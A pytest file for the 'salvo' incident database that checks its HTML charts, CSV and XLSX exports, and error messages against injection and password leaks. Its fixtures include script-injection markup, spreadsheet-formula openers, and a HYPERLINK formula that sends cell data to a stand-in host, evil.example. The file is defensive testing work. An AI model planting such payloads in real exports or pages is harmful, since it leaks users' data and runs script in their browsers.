"""Outputs are safe whatever the text: no HTML markup or script, no spreadsheet formula, no password."""

from __future__ import annotations

import csv
import datetime as dt
import json
from html.parser import HTMLParser

import polars as pl
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from salvo.cli import app
from salvo.exports import export
from salvo.readers.salvo_format import COLUMNS
from salvo.records import IncidentRecord, MunitionRecord
from salvo.safe_text import (FORMULA_STARTS, QUOTED_CELL, from_spreadsheet_text, redact, script_json,
                             spreadsheet_text)
from salvo.storage import connect
from salvo.storage.incidents import save_incident

runner = CliRunner()

MARKUP = """</script><script>alert("x")</script> & 'single' "double" <b>bold</b> <!-- <![CDATA["""
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
HOSTILE = IncidentRecord(
    id="-1+1<script>", date=dt.date(2024, 1, 28), date_precision="day",
    location=f"{FORMULA} {MARKUP}", latitude=-8.8383, longitude=-13.2344, location_precision="exact",
    target=f"+{MARKUP}", target_category="us_military", actor_name="=1+1", attribution="claimed",
    killed=3, killed_low=3, killed_high=3, status="published",
    notes=f"\t@SUM(A1:A9) {MARKUP}", sources=[f"=https://example.org/?q={MARKUP}"],
    munitions=[MunitionRecord("uav", 3, False, 1, 2, 0), MunitionRecord("rocket", 14)],
)
NUMBERS = {"latitude", "longitude", "count", "intercepted", "impacted", "failed", "killed", "killed_low",
           "killed_high", "injured", "injured_low", "injured_high"}


class Outline(HTMLParser):
    """What a browser would build from an HTML page: its tags (and comments), its scripts and its other text."""

    def __init__(self, html: str):
        super().__init__()
        self.tags: list[str] = []
        self.scripts: list[str] = []
        self.text: list[str] = []
        self._in_script = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag == "script":
            self.scripts.append("")
            self._in_script = True

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data
        else:
            self.text.append(data)

    def handle_comment(self, data):
        self.tags.append("<!--")


def chart_spec(html: str) -> dict:
    """The Vega-Lite specification a chart's HTML page hands to vega-embed."""
    script = Outline(html).scripts[-1]
    start = script.index("const spec = ") + len("const spec = ")
    return json.JSONDecoder().raw_decode(script, start)[0]


@pytest.fixture
def hostile(store):
    with store.session() as session:
        save_incident(session, HOSTILE, user="test")
    return store


def test_chart_html_holds_titles_and_source_lines_as_text_not_markup(hostile, tmp_path):
    result = runner.invoke(app, ["chart", "per-year", "--db", hostile.url, "--out", str(tmp_path),
                                 "--title", MARKUP, "--source", MARKUP])
    assert result.exit_code == 0, result.output
    outline = Outline((tmp_path / "per-year.html").read_text(encoding="utf-8"))
    assert outline.tags == ["html", "head", "meta", "style", "script", "body", "div", "script"]
    assert "alert" not in "".join(outline.text)
    spec = chart_spec((tmp_path / "per-year.html").read_text(encoding="utf-8"))
    assert spec["vconcat"][0]["title"]["text"] == MARKUP
    assert spec["vconcat"][1]["data"]["values"] == [{"t": MARKUP}]


def test_xlsx_export_has_no_formula_and_keeps_text_and_numbers(hostile, tmp_path):
    path = tmp_path / "incidents.xlsx"
    export(hostile, "xlsx", path)
    sheet = load_workbook(path).active
    header = [cell.value for cell in sheet[1]]
    rows = [dict(zip(header, row)) for row in sheet.iter_rows(min_row=2)]
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    first = rows[0]
    assert {name: first[name].value for name in ("incident_id", "actor", "target", "notes", "source_url")} == {
        "incident_id": HOSTILE.id, "actor": "=1+1", "target": HOSTILE.target, "notes": HOSTILE.notes,
        "source_url": HOSTILE.sources[0]}
    assert all(first[name].quotePrefix for name in ("incident_id", "actor", "target", "notes", "source_url"))
    assert [(first[name].value, first[name].data_type) for name in ("latitude", "longitude")] == [
        (-8.8383, "n"), (-13.2344, "n")]
    assert [(row["count"].value, row["count"].data_type) for row in rows] == [(3, "n"), (14, "n")]


def test_csv_export_quotes_every_text_cell_that_starts_like_a_formula(hostile, tmp_path):
    path = tmp_path / "incidents.csv"
    export(hostile, "csv", path)
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    starts_like_formula = [(name, value) for row in rows for name, value in row.items()
                           if name not in NUMBERS and value.startswith(tuple(FORMULA_STARTS))]
    assert starts_like_formula == []
    assert rows[0]["actor"] == "'=1+1" and rows[0]["incident_id"] == "'-1+1<script>"
    assert rows[0]["notes"] == "'" + HOSTILE.notes
    assert (rows[0]["latitude"], rows[0]["longitude"], rows[1]["count"]) == ("-8.8383", "-13.2344", "14")
    assert set(rows[0]) == set(COLUMNS)


@pytest.mark.parametrize("text", ["=1+1", "-2", "+", "@x", "\tx", "\rx", "＝x", "＋x", "－x", "＠x",
                                  "'=x", "''-x", "'", "'plain", "plain", "", "a=b", " =x"])
def test_the_spreadsheet_quote_is_undone_exactly(text):
    written = spreadsheet_text(text)
    assert not written.startswith(tuple(FORMULA_STARTS))
    assert from_spreadsheet_text(written) == text
    read_by_polars = pl.Series([written]).str.replace(QUOTED_CELL, "${1}")[0]
    assert read_by_polars == text


def test_only_text_that_starts_like_a_formula_is_quoted():
    assert [spreadsheet_text(t) for t in ("Ain al-Asad", "a=b", "'tis", " =x")] == ["Ain al-Asad", "a=b", "'tis",
                                                                                   " =x"]


def test_script_json_reads_back_the_same_values():
    value = {"title": MARKUP, "labels": ["\u2028", "&amp;"]}
    written = script_json(value)
    assert not set("<>&") & set(written)
    assert json.loads(written) == value


SECRET_URL = "postgresql+psycopg://user:s3cret@127.0.0.1:1/db"


@pytest.mark.parametrize("args, env", [
    (["stats", "--db", SECRET_URL], {}),
    (["export", "--format", "csv"], {"SALVO_DATABASE_URL": SECRET_URL}),
    (["init", "--db", "postgresql+psycopg://user@127.0.0.1:1/db?password=s3cret"], {}),
    (["init", "--db", SECRET_URL + "?sslmode=s3cret"], {}),
    (["stats", "--db", "postgresql+psycopg://user:s3cret@127.0.0.1:port/db"], {}),
], ids=["closed port", "from the environment", "password in the query", "quoted by the driver", "bad port"])
def test_a_database_password_is_never_printed(args, env):
    result = runner.invoke(app, args, env=env)
    assert result.exit_code == 1
    assert "cannot open the database postgresql+psycopg://user" in result.output
    assert "@127.0.0.1:" in result.output and "***" in result.output
    assert "s3cret" not in result.output


def test_a_store_that_will_not_open_raises_without_the_password():
    with pytest.raises(ConnectionError) as caught:
        connect(SECRET_URL)
    assert str(caught.value).startswith("cannot open the database postgresql+psycopg://user:***@127.0.0.1:1/db: ")
    assert "Connection refused" in str(caught.value)
    assert caught.value.__cause__ is None and caught.value.__suppress_context__, "the driver's error is not shown"


def test_redact_hides_url_passwords_and_given_secrets():
    assert redact("at postgresql://u:p%40ss@h/db, as p@ss", "p@ss") == "at postgresql://u:***@h/db, as ***"
    assert redact("host=h password=p@ss port=1; ?password=x&y=1") == "host=h password=*** port=1; ?password=***&y=1"
    assert redact("sqlite:///salvo.db and https://example.org/a:b") == "sqlite:///salvo.db and https://example.org/a:b"


@pytest.mark.parametrize("command", [["incidents", "--format", "csv"], ["stats", "--by", "actor", "--format", "csv"]])
def test_csv_listings_and_tables_quote_text_that_starts_like_a_formula(hostile, command):
    result = runner.invoke(app, [*command, "--db", hostile.url, "--include-candidates"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(result.stdout.splitlines()))
    actors = {row.get("actor") for row in rows}
    assert "'=1+1" in actors and "=1+1" not in actors


def test_the_rejected_rows_file_quotes_text_that_starts_like_a_formula(store, tmp_path):
    source = tmp_path / "incidents.csv"
    header = ",".join(COLUMNS)
    good = {"incident_id": "ok-1", "date": "2024-01-28", "country": "JO", "munition_type": "uav", "count": "1"}
    bad = {"incident_id": "=HYPERLINK(1)", "date": "not a date", "country": "JO", "munition_type": "uav",
           "count": "1"}
    lines = [header] + [",".join(row.get(column, "") for column in COLUMNS) for row in (good, bad)]
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    rejects = tmp_path / "rejected.csv"
    result = runner.invoke(app, ["import", str(source), "--db", store.url, "--skip-invalid",
                                 "--rejects", str(rejects)])
    assert result.exit_code == 0, result.output
    with rejects.open(encoding="utf-8", newline="") as handle:
        rejected = list(csv.DictReader(handle))
    assert [row["incident_id"] for row in rejected] == ["'=HYPERLINK(1)"]
